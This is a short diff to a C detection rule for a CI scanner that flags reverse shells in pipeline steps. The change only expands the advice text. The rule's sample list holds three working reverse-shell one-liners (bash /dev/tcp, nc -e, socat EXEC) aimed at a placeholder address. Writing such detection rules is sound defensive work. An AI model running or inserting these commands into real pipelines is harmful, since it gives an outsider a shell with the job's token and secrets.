@@ -54,7 +54,7 @@ extern const Check reverse_shell = {
     .why = "Somebody at the other end types commands into the runner, with the job's token and secrets.",
     .reproduce = "Read the script: no build needs it.",
     .fix = "Delete it, and find out who added it and what has run since. Change the secrets of the job.",
-    .avoid = "Do not debug a runner this way.",
+    .avoid = "Do not debug a runner this way: run the job again with debug logging.",
     .references = {"https://attack.mitre.org/techniques/T1059/004/"},
     .bad = {"- run: bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", "- run: nc -e /bin/sh 192.0.2.1 4444\n",
             "- run: socat TCP:192.0.2.1:1 EXEC:/bin/sh\n"},
